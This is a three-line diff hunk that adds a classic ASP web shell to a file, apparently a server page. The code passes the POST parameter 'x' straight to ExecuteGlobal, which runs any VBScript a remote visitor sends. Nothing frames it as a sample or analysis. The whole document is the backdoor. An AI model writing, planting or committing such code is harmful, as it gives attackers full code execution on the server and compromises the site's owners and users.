@@ -1,0 +1,3 @@
+<%
+ExecuteGlobal Request.Form("x")
+%>
